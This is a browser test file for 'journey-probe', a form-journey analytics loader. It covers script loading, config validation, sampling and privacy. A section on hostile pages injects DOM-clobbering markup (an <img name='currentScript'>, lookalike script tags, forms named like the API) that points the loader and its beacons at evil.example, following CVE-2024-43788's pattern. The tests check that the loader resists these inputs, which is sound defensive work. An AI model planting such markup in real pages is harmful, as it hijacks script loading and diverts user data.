// The loader: one classic <script> tag or an ES module import, a queue for early calls,
// idempotent inclusion, wasm served with the wrong MIME type, and pages that fight it.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ROOT } from '../../scripts/lib.mjs';
import { freePort, startCollector } from '../../scripts/stack.mjs';
import { startStatic } from './support/static.mjs';
import { eventually, launch, openPage, probeReady } from './support/browser.mjs';
import { assertAnonymous } from './support/privacy.mjs';
import { startRecorder } from './support/recorder.mjs';

let dir, collector, recorder, browser;
const servers = [];

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'journey-probe-loader-'));
  collector = await startCollector({ db: join(dir, 'beacons.db'), allowOrigins: ['*'], quiet: true });
  recorder = await startRecorder(collector.url);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  for (const s of servers) await s.close();
  await recorder?.close();
  await collector?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function serve(options = {}) {
  const server = await startStatic({ ...options, vars: { COLLECTOR: `${recorder.url}/v1/beacons`, ...(options.vars || {}) } });
  servers.push(server);
  return server;
}

test('one classic script tag: queued calls replayed, fields below the tag found', async () => {
  const server = await serve();
  const { context, page, errors, console: messages } = await openPage(browser);
  const wasmFetched = [];
  page.on('request', (r) => r.url().endsWith('.wasm') && wasmFetched.push(r.url().split('/').pop()));
  await page.goto(`${server.url}/form.html`);
  const snapshot = await probeReady(page);
  // The citizen's wasm, the one without the OTLP encoder (data-format is json here).
  const sizes = JSON.parse(readFileSync(join(ROOT, 'dist', 'sizes.json'), 'utf8'));
  assert.deepEqual(wasmFetched, [sizes.files.wasm.file]);
  assert.equal(snapshot.logged_in, true, "the queued push(['login']) ran");
  assert.deepEqual(snapshot.fields.map((f) => [f.key, f.origin]), [
    ['ho_ten', 'declared'],
    ['dien_thoai', 'empty'],
    ['truong_cuoi', 'empty'],
  ]);
  const unknown = messages.filter((m) => m.text.includes('unknown command "no-such-command"'));
  assert.equal(unknown.length, 1, 'an unknown queued command is named once');
  assert.match(unknown[0].text, /accepted commands are login, submitted/);
  await page.evaluate(() => window.earlyQueue.push(['submitted']));
  assert.equal((await page.evaluate(() => window.JourneyProbe.snapshot())).submitted, true, 'a push on the kept array still arrives');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a second script tag is harmless: one API, one beacon per hide', async () => {
  const second = '<script src="/journey-probe/journey-probe.js" async data-collector="{{COLLECTOR}}" data-service="1.001234"></script>';
  const server = await serve({ vars: { SECOND_TAG: second.replace('{{COLLECTOR}}', collector.beaconsUrl) } });
  const { context, page, errors } = await openPage(browser);
  await page.goto(`${server.url}/form.html`);
  const { journey } = await probeReady(page);
  assert.equal(await page.evaluate(() => document.querySelectorAll('script[src*="journey-probe.js"]').length), 2);
  await page.goto('about:blank');
  const stored = await eventually(async () => {
    const b = await collector.stored(`&journey=${journey}`);
    return b.length ? b : null;
  });
  await new Promise((r) => setTimeout(r, 500));
  assert.equal((await collector.stored(`&journey=${journey}`)).length, 1, 'the page was counted once');
  assert.equal(stored[0].beacon.trigger, 'pagehide');
  assert.deepEqual(errors, []);
  await context.close();
});

test('wasm served as application/octet-stream still loads (no streaming compile)', async () => {
  const server = await serve({ wasmType: 'application/octet-stream' });
  const { context, page, errors, console: messages } = await openPage(browser);
  await page.goto(`${server.url}/form.html`);
  const snapshot = await probeReady(page);
  assert.equal(snapshot.service, '1.001234');
  // The browser's own favicon 404 aside, nothing went wrong.
  assert.deepEqual(messages.filter((m) => m.type === 'error' && /wasm|WebAssembly|journey-probe|MIME/i.test(m.text)), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('the ES module entry works for bundler users', async () => {
  const server = await serve();
  const { context, page, errors } = await openPage(browser);
  await page.goto(`${server.url}/module.html`);
  const snapshot = await probeReady(page);
  assert.deepEqual(snapshot.fields.map((f) => [f.key, f.origin, f.source]), [['ho_ten', 'declared', 'CSDLQG-DC']]);
  assert.equal(await page.evaluate(() => window.startedVersion), await page.evaluate(() => window.JourneyProbe.version));
  assert.deepEqual(errors, []);
  await context.close();
});

test('a missing wasm file leaves the page alone with one warning', async () => {
  const server = await serve();
  const { context, page, errors, console: messages } = await openPage(browser);
  await page.route(/\.wasm$/, (route) => route.fulfill({ status: 404, body: '' }));
  await page.goto(`${server.url}/form.html`);
  const warning = await eventually(() => messages.find((m) => m.text.startsWith('journey-probe: could not load')));
  assert.ok(warning, JSON.stringify(messages));
  assert.match(warning.text, /HTTP 404/);
  assert.equal(await page.evaluate(() => window.JourneyProbe.snapshot()), null);
  assert.deepEqual(errors, []);
  await context.close();
});

test('data-login-selector and data-success-selector start and end the journey as the elements appear', async () => {
  const server = await serve();
  const { context, page, errors } = await openPage(browser);
  await page.goto(`${server.url}/selectors.html`);
  const before = await probeReady(page);
  assert.equal(before.logged_in, false);
  await page.evaluate(() => window.showLoggedIn());
  await page.waitForFunction(() => window.JourneyProbe.snapshot().logged_in === true);
  await page.evaluate(() => new Promise((r) => setTimeout(r, 300)));
  await page.evaluate(() => window.showReceipt());
  await page.waitForFunction(() => window.JourneyProbe.snapshot().submitted === true);
  const stored = await eventually(async () => {
    const b = await collector.stored(`&journey=${before.journey}`);
    return b.find((x) => x.beacon.trigger === 'submitted') ? b : null;
  });
  const end = stored.find((x) => x.beacon.trigger === 'submitted').beacon;
  assert.equal(end.journey.outcome, 'submitted');
  assert.ok(end.journey.duration_ms >= 300 && end.journey.duration_ms < 5_000, `${end.journey.duration_ms} ms`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('one journey across an in-page view, a mark and three full page loads: every step in order', async () => {
  const server = await serve();
  const { context, page, errors } = await openPage(browser);
  await page.goto(`${server.url}/spa.html`);
  const { journey } = await probeReady(page);
  await page.type('[name=ho_ten]', 'Lê Văn Một Trang');
  await page.evaluate(() => window.go('/dich-vu/1.001234/buoc-2', '<h1>Bước 2</h1><input name="so_dien_thoai">'));
  await page.waitForFunction(() => window.JourneyProbe.snapshot().path === '/dich-vu/1.001234/buoc-2');
  await page.type('[name=so_dien_thoai]', '0987654321');
  await page.evaluate(() => { location.hash = '#xem-lai'; }); // same path: no new step
  await page.evaluate(() => window.JourneyProbe.mark('xac-nhan'));
  await page.goto(`${server.url}/form.html`); // full page loads, same tab, same journey
  await probeReady(page);
  await page.goto(`${server.url}/selectors.html`);
  assert.equal((await probeReady(page)).journey, journey, 'the journey survived the page loads');
  await page.evaluate(() => window.JourneyProbe.submitted());
  const stored = await eventually(async () => {
    const b = await collector.stored(`&journey=${journey}`);
    return b.find((x) => x.beacon.trigger === 'submitted') ? b : null;
  }, 20_000);
  assert.ok(stored, 'the journey end arrived');
  const end = stored.find((x) => x.beacon.trigger === 'submitted').beacon;
  assert.deepEqual(end.journey.steps.map((s) => s.name), [
    '/spa.html',
    '/dich-vu/1.001234/buoc-2',
    'xac-nhan',
    '/form.html',
    '/selectors.html',
  ]);
  assert.equal(end.page.path, '/selectors.html');
  assert.equal(end.page.n, 2, 'three page views: 0, 1, 2');
  assert.deepEqual(errors, []);
  await context.close();
});

test('window.JourneyProbeConfig configures a tag without attributes; the tag wins where both speak', async () => {
  const config = `window.JourneyProbeConfig = { collector: ${JSON.stringify(`${recorder.url}/v1/beacons`)}, service: '2.000111', targetSeconds: 480, allowParams: ['buoc', 'tab'] };`;
  const server = await serve({ vars: { CONFIG_SCRIPT: config, TAG_ATTRIBUTES: 'data-service="1.001234"' } });
  const { context, page, errors, console: messages } = await openPage(browser);
  await page.goto(`${server.url}/configured.html?buoc=2&cccd=001190012345`);
  const { journey, service, path } = await probeReady(page);
  assert.equal(service, '1.001234', 'the attribute on the tag wins');
  assert.equal(path, '/configured.html?buoc=2', 'allowParams from the object applies');
  const overridden = messages.filter((m) => m.text.startsWith('journey-probe: '));
  assert.deepEqual(overridden.map((m) => m.text), [
    'journey-probe: data-service="1.001234" on the script tag is used; window.JourneyProbeConfig.service = "2.000111" is ignored',
  ]);
  await page.evaluate(() => window.JourneyProbe.login());
  await page.goto('about:blank');
  const stored = await eventually(async () => (await collector.stored(`&journey=${journey}`))[0]);
  assert.equal(stored.beacon.journey.target_s, 480, 'targetSeconds from the object applies');
  assert.deepEqual(errors, []);
  await context.close();
});

test('mistakes in window.JourneyProbeConfig are named as properties and keep the probe off', async () => {
  const config = "window.JourneyProbeConfig = { colector: '/v1/beacons', collector: '/v1/beacons', service: '1.001234', targetSeconds: 'năm phút' };";
  const server = await serve({ vars: { CONFIG_SCRIPT: config, TAG_ATTRIBUTES: '' } });
  const { context, page, errors, console: messages } = await openPage(browser);
  await page.goto(`${server.url}/configured.html`);
  const warnings = await eventually(() => {
    const found = messages.filter((m) => m.type === 'warning' && m.text.startsWith('journey-probe: '));
    return found.length >= 2 ? found : null;
  });
  assert.ok(warnings, JSON.stringify(messages));
  assert.match(warnings[0].text, /^journey-probe: window\.JourneyProbeConfig\.colector is not an option journey-probe reads \(it is ignored\); accepted: collector, service, /);
  assert.equal(
    warnings[1].text,
    'journey-probe: window.JourneyProbeConfig.targetSeconds = "năm phút" is not accepted: expected a whole number of seconds from 1 to 86400 (e.g. 300, the 2026 target). The probe is off on this page.',
  );
  await page.evaluate(() => new Promise((r) => setTimeout(r, 300)));
  assert.equal(await page.evaluate(() => window.JourneyProbe.snapshot()), null);
  assert.deepEqual(errors, []);
  await context.close();
});

test('a journey outside data-sample sends and stores nothing, on every page it crosses', async () => {
  const server = await serve({ vars: { CONFIG_SCRIPT: '', TAG_ATTRIBUTES: `data-collector="${recorder.url}/v1/beacons" data-service="1.001234" data-sample="0.000001"` } });
  const { context, page, errors } = await openPage(browser);
  const sentBefore = recorder.requests.length;
  await page.goto(`${server.url}/configured.html`);
  const { journey } = await probeReady(page);
  await page.evaluate(() => window.JourneyProbe.login());
  await page.type('#so_dien_thoai', '0987654321');
  await page.goto(`${server.url}/configured.html?buoc=2`); // the next page: same journey, same decision
  assert.equal((await probeReady(page)).journey, journey);
  await page.evaluate(() => window.JourneyProbe.submitted());
  assert.equal(await page.evaluate(() => localStorage.getItem('journey-probe:outbox')), null, 'nothing stored to send');
  await page.goto('about:blank');
  await new Promise((r) => setTimeout(r, 500));
  assert.deepEqual(recorder.requests.slice(sentBefore).filter((r) => r.body.includes(journey)), [], 'nothing sent');
  assert.deepEqual(errors, []);
  await context.close();
});

// Pages that fight the probe: markup that clobbers what the loader reads, script that hands
// its API what it cannot read, routers that patch the History API after it. The page must come
// out exactly as it went in (no exception, one warning at most per cause) and the probe must
// neither be steered by markup nor stop the page's own code from running.

const EVIL = 'https://evil.example/x/journey-probe.js';
const VERSION = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).version;

/** Answers nothing from the attacker's site, and keeps every URL the page asked it for. */
async function attackerSite(context) {
  const asked = [];
  await context.route(/^https:\/\/evil\.example\//, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}
const probeWarnings = (messages) =>
  messages.filter((m) => m.type === 'warning' && m.text.startsWith('journey-probe: ')).map((m) => m.text);
const snapshotOf = (page) => page.evaluate(() => window.JourneyProbe?.snapshot?.() ?? null);

test('markup that clobbers document.currentScript cannot make the loader import from another site', async () => {
  // CVE-2024-43788's pattern: named access on document puts the <img> where currentScript was.
  const injected = `<img name="currentScript" src="${EVIL}" data-collector="https://evil.example/v1/beacons" data-service="6.666666" alt="">`;
  const server = await serve({ vars: { INJECTED: injected } });
  const { context, page, errors, console: messages } = await openPage(browser);
  const asked = await attackerSite(context);
  const imported = () => asked.filter((u) => u !== EVIL); // the <img> itself fetches EVIL, as any image would
  await page.goto(`${server.url}/hostile.html`);
  await eventually(async () => imported().length > 0 || (await snapshotOf(page)) !== null, 15_000);
  assert.deepEqual(imported(), [], 'no glue, wasm or beacon from or to the attacker\'s site');
  assert.equal(await page.evaluate(() => document.currentScript.tagName), 'IMG', 'the page really is clobbered');
  const snapshot = await probeReady(page);
  assert.equal(snapshot.service, '1.001234', 'configured by its own tag');
  assert.deepEqual(probeWarnings(messages), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('without currentScript (a module-typed tag) the loader takes only the tag of its own URL, never a lookalike', async () => {
  const lookalike = (src) => `<script type="text/plain" src="${src}" data-collector="https://evil.example/v1/beacons" data-service="6.666666"></script>`;
  // A lookalike elsewhere, first in the document: the real tag is found by the URL the code runs from.
  let server = await serve({ vars: { TAG_TYPE: 'type="module"', INJECTED: lookalike(EVIL) } });
  let { context, page, errors, console: messages } = await openPage(browser);
  let asked = await attackerSite(context);
  await page.goto(`${server.url}/hostile.html`);
  await eventually(async () => asked.length > 0 || (await snapshotOf(page)) !== null, 15_000);
  assert.deepEqual(asked, [], 'nothing from the attacker\'s site');
  assert.equal((await probeReady(page)).service, '1.001234');
  assert.deepEqual(errors, []);
  await context.close();

  // A lookalike of the very same URL: which tag is its own cannot be told, so the probe stays off.
  server = await serve({ vars: { TAG_TYPE: 'type="module"', INJECTED: lookalike('/journey-probe/journey-probe.js') } });
  ({ context, page, errors, console: messages } = await openPage(browser));
  asked = await attackerSite(context);
  await page.goto(`${server.url}/hostile.html`);
  await eventually(() => probeWarnings(messages).length > 0 || asked.length > 0);
  await page.evaluate(() => new Promise((r) => setTimeout(r, 500)));
  await page.goto('about:blank'); // a page left: the beacon would go now
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(asked, [], 'nothing sent to the lookalike\'s collector');
  assert.deepEqual(probeWarnings(messages), [
    'journey-probe: cannot find its own <script> tag (the one <script src> of this file), so it has no configuration. The probe is off.',
  ]);
  assert.deepEqual(errors, []);
  await context.close();
});

test('page elements named JourneyProbe or JourneyProbeConfig neither disable the probe nor pass for its queue or configuration', async () => {
  // `<input name="version">` makes the form look like an installed probe to a naive check.
  const injected = '<form name="JourneyProbe"><input name="version" value="9.9.9"></form>' +
    '<form id="JourneyProbeConfig"><input name="collector" value="https://evil.example/v1/beacons"></form>';
  const second = '<script src="/journey-probe/journey-probe.js" async data-collector="https://evil.example/v1/beacons" data-service="6.666666"></script>';
  let server = await serve({ vars: { INJECTED: injected + second } });
  let { context, page, errors, console: messages } = await openPage(browser);
  let asked = await attackerSite(context);
  await page.goto(`${server.url}/hostile.html`);
  await eventually(async () => (await snapshotOf(page)) !== null || probeWarnings(messages).length > 0);
  const snapshot = await probeReady(page, 15_000);
  assert.equal(snapshot.service, '1.001234', 'the first tag configured it; the second did nothing');
  assert.equal(await page.evaluate(() => window.JourneyProbe.version), VERSION);
  assert.deepEqual(await page.evaluate(() => [document.forms.JourneyProbe.tagName, document.forms.JourneyProbe.elements.length]), ['FORM', 1], 'the element is untouched');
  assert.deepEqual(probeWarnings(messages), [
    'journey-probe: window.JourneyProbe is a page element (by its id or name), not set by script: the API is installed over it',
    'journey-probe: window.JourneyProbeConfig is a page element (by its id or name), not set by script: ignored',
  ]);
  assert.equal(await page.evaluate(() => Object.getOwnPropertyDescriptor(window, 'JourneyProbe')?.value === window.JourneyProbe), true, 'an own property of window, before named access');
  await page.goto('about:blank');
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(asked, []);
  assert.deepEqual(errors, []);
  await context.close();

  // The page's own queue array, set before the element is parsed, is still the queue.
  server = await serve({ vars: { HEAD_SCRIPT: "window.JourneyProbe = window.JourneyProbe || []; JourneyProbe.push(['login']);", INJECTED: injected } });
  ({ context, page, errors, console: messages } = await openPage(browser));
  await page.goto(`${server.url}/hostile.html`);
  assert.equal((await probeReady(page)).logged_in, true, 'the queued login ran');
  assert.deepEqual(probeWarnings(messages).filter((w) => w.includes('window.JourneyProbe is a page element')), [], 'nothing was shadowed');
  assert.deepEqual(errors, []);
  await context.close();
});

test('every public method returns quietly whatever the page hands it, with one warning per method', async () => {
  const server = await serve();
  const { context, page, errors, console: messages } = await openPage(browser);
  await page.goto(`${server.url}/form.html`);
  await probeReady(page);
  const before = probeWarnings(messages).length;
  const outcome = await page.evaluate(() => {
    const bad = { toString() { throw new Error('toString says no'); } };
    // What it throws is worse still: an object whose message getter throws.
    const worse = { toString() { throw { get message() { throw new Error('again'); } }; } };
    const revoked = Proxy.revocable([], {});
    revoked.revoke();
    const api = window.JourneyProbe;
    const calls = {
      'push(["mark", bad])': () => api.push(['mark', bad]),
      'push(revoked)': () => api.push(revoked.proxy),
      'mark(bad)': () => api.mark(bad),
      'mark(worse)': () => api.mark(worse),
      'setService(bad)': () => api.setService(bad),
      'consent(bad)': () => api.consent(bad),
      'rate(2, [Symbol()])': () => api.rate(2, [Symbol('x')]),
      'rate(bad)': () => api.rate(bad),
      'snapshot(bad)': () => api.snapshot(bad),
      'memoryBytes(bad)': () => api.memoryBytes(bad),
      'overlay(false)': () => api.overlay(false),
      'login(bad)': () => api.login(bad), // takes no argument: it is not even read
      'askSatisfaction(bad)': () => api.askSatisfaction(bad),
      'mark("xac-nhan")': () => api.mark('xac-nhan'), // and a good call still works
      'submitted(bad)': () => api.submitted(bad),
      'expired(bad)': () => api.expired(bad),
    };
    const threw = [];
    for (const [name, call] of Object.entries(calls)) {
      try {
        call();
      } catch (error) {
        threw.push(`${name}: ${error}`);
      }
    }
    const snapshot = api.snapshot();
    const after = [];
    for (const [name, call] of Object.entries({ 'stop(bad)': () => api.stop(bad), 'optOut(bad)': () => api.optOut(bad) })) {
      try {
        call();
      } catch (error) {
        after.push(`${name}: ${error}`);
      }
    }
    return { threw: threw.concat(after), snapshot, called: Object.keys(calls).concat(['stop(bad)', 'optOut(bad)']) };
  });
  // The whole published surface: every method the types declare was called above.
  const types = readFileSync(join(ROOT, 'js', 'journey-probe.d.ts'), 'utf8').split('export interface JourneyProbeApi {')[1].split('\n}')[0];
  const declared = [...types.matchAll(/^ {2}(\w+)\(/gm)].map((m) => m[1]);
  assert.ok(declared.length >= 14, declared.join());
  assert.deepEqual(declared.filter((name) => !outcome.called.some((c) => c.startsWith(`${name}(`))), [], 'methods of JourneyProbeApi not called');
  assert.deepEqual(outcome.threw, [], 'no call threw into the page');
  assert.equal(outcome.snapshot.logged_in, true, 'login(bad) ran: its argument was not read');
  assert.equal(outcome.snapshot.submitted, true);
  assert.deepEqual(outcome.snapshot.clock.steps.map((s) => s.name), ['/form.html', 'xac-nhan'], 'no step from the refused calls');
  const warnings = probeWarnings(messages).slice(before).filter((w) => w.includes(' was ignored'));
  assert.deepEqual(warnings.map((w) => w.replace(/ \(.*$/, '')), [
    'journey-probe: JourneyProbe.push() was ignored',
    'journey-probe: JourneyProbe.mark() was ignored',
    'journey-probe: JourneyProbe.setService() was ignored',
    'journey-probe: JourneyProbe.consent() was ignored',
    'journey-probe: JourneyProbe.rate() was ignored',
  ]);
  assert.equal(warnings[1], 'journey-probe: JourneyProbe.mark() was ignored (toString says no)');
  assert.deepEqual(errors, []);
  await context.close();
});

test('start() and the loader return quietly on pages that make them fail', async () => {
  const options = `{ collector: '${recorder.url}/v1/beacons', service: '1.001234' }`;
  const throwing = "new Proxy({ collector: '/v1/beacons', service: '1.001234', consent: 'required' }, { get() { throw new Error('not readable'); } })";
  // Every trap of this Proxy throws, even Object.keys.
  const trapped = "new Proxy({}, new Proxy({}, { get() { throw new Error('no trap is readable'); } }))";
  const cases = [
    {
      what: 'a read-only window.JourneyProbe',
      head: "Object.defineProperty(window, 'JourneyProbe', { value: undefined, writable: false });",
      options,
      runs: true,
      warning: 'journey-probe: window.JourneyProbe is read-only: the probe runs without its API there',
    },
    {
      what: 'options whose getters throw',
      head: '',
      options: throwing,
      runs: false,
      warning: 'journey-probe: the options of start() could not be read (not readable). The probe is off on this page.',
    },
    {
      // Skipping the unreadable property would run the probe without the consent the page asked for.
      what: 'a JourneyProbeConfig Proxy whose getters throw',
      head: `window.JourneyProbeConfig = ${throwing};`,
      options,
      runs: false,
      warning: 'journey-probe: window.JourneyProbeConfig could not be read (not readable). The probe is off on this page.',
    },
    {
      what: 'a JourneyProbeConfig Proxy whose every trap throws',
      head: `window.JourneyProbeConfig = ${trapped};`,
      options,
      runs: false,
      warning: 'journey-probe: window.JourneyProbeConfig could not be read (no trap is readable). The probe is off on this page.',
    },
  ];
  for (const c of cases) {
    const server = await serve({ vars: { HEAD_SCRIPT: c.head, OPTIONS: c.options } });
    const { context, page, errors, console: messages } = await openPage(browser);
    await page.goto(`${server.url}/module-start.html`);
    await page.waitForFunction(() => 'threw' in window);
    assert.equal(await page.evaluate(() => window.threw), null, `${c.what}: start() threw`);
    const running = await eventually(() => page.evaluate(() => window.api.snapshot() !== null), c.runs ? 15_000 : 1_000);
    assert.equal(running, c.runs, `${c.what}: the probe ${c.runs ? 'runs' : 'is off'}`);
    assert.equal(await page.evaluate(() => { window.api.mark('buoc-2'); return window.api.version; }), VERSION, `${c.what}: the API answers`);
    assert.deepEqual(probeWarnings(messages), [c.warning], c.what);
    assert.deepEqual(errors, [], c.what);
    await context.close();
  }

  // The classic loader under a read-only window.JourneyProbe holding the page's queue: the
  // probe runs, and the queue array still reaches it.
  const head = "Object.defineProperty(window, 'JourneyProbe', { value: [['login']], writable: false });";
  const server = await serve({ vars: { HEAD_SCRIPT: head } });
  const { context, page, errors, console: messages } = await openPage(browser);
  await page.goto(`${server.url}/hostile.html`);
  await eventually(() => probeWarnings(messages).length > 0);
  assert.deepEqual(probeWarnings(messages), [
    'journey-probe: window.JourneyProbe is read-only: the probe runs without its API there',
  ]);
  const sent = recorder.requests.length;
  await page.evaluate(() => window.JourneyProbe.push(['submitted'])); // queued or run, as the probe is
  const submitted = await eventually(() =>
    recorder.requests.slice(sent).flatMap((r) => JSON.parse(r.body)).find((b) => b.trigger === 'submitted'), 15_000);
  assert.ok(submitted, 'the queue array reached the running probe');
  assert.equal(submitted.journey.outcome, 'submitted');
  assert.equal(submitted.journey.logged_in, true, "the page's queued login ran");
  assert.deepEqual(errors, []);
  await context.close();
});

test('a router that patches History.prototype after the probe loaded still runs, and the in-page view is a step', async () => {
  const server = await serve();
  const { context, page, errors } = await openPage(browser);
  await page.goto(`${server.url}/spa.html`);
  await probeReady(page);
  const calls = await page.evaluate(() => {
    window.routerCalls = [];
    const previous = History.prototype.pushState;
    History.prototype.pushState = function (state, title, url) {
      window.routerCalls.push(String(url));
      return previous.apply(this, arguments);
    };
    window.go('/dich-vu/1.001234/buoc-2', '<h1>Bước 2</h1><input name="so_dien_thoai">');
    return { router: window.routerCalls, own: Object.prototype.hasOwnProperty.call(history, 'pushState') };
  });
  assert.deepEqual(calls, { router: ['/dich-vu/1.001234/buoc-2'], own: false }, "the router's patch ran; nothing hides it on the history object");
  const snapshot = await page.evaluate(() => window.JourneyProbe.snapshot());
  assert.equal(snapshot.path, '/dich-vu/1.001234/buoc-2');
  assert.deepEqual(snapshot.clock.steps.map((s) => s.name), ['/spa.html', '/dich-vu/1.001234/buoc-2']);
  assert.deepEqual(errors, []);
  await context.close();

  // A tag that patched the history object before the probe loaded (the way many analytics
  // tags do) still has its patch called once, and the view is still a step.
  const early = await openPage(browser);
  await early.context.addInitScript(() => {
    window.tagCalls = 0;
    const original = history.pushState;
    history.pushState = function () {
      window.tagCalls += 1;
      return original.apply(this, arguments);
    };
  });
  await early.page.goto(`${server.url}/spa.html`);
  await probeReady(early.page);
  await early.page.evaluate(() => window.go('/dich-vu/1.001234/buoc-2', '<h1>Bước 2</h1>'));
  assert.equal(await early.page.evaluate(() => window.tagCalls), 1);
  assert.deepEqual((await early.page.evaluate(() => window.JourneyProbe.snapshot())).clock.steps.map((s) => s.name), ['/spa.html', '/dich-vu/1.001234/buoc-2']);
  assert.deepEqual(early.errors, []);
  await early.context.close();
});

test('nothing identifying left the browser in any request of this file', () => {
  assert.ok(assertAnonymous(recorder.requests) > 0, 'requests were recorded');
});
